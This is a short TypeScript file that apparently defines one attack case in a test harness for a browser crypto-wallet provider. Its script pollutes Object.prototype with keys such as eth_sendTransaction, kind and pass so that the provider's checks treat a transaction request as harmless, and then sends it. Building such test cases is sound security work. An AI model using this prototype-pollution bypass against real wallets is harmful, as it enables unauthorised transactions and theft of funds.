import type { Attack } from '../Attack.ts';

/** Every object says of itself that it is a harmless method. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'Object.prototype with members named like methods, kinds and replies',
  discovers: true,
  script: `
const wallet = await kit.wallet();
for (const [key, value] of Object.entries({ eth_sendTransaction: 'pass', kind: 'pass', judging: 'pass', t: 'go', choice: 'continue', configurable: true, pass: true })) {
  Object.defineProperty(Object.prototype, key, { value, configurable: true, writable: true });
}
wallet.request(kit.send());
`,
};
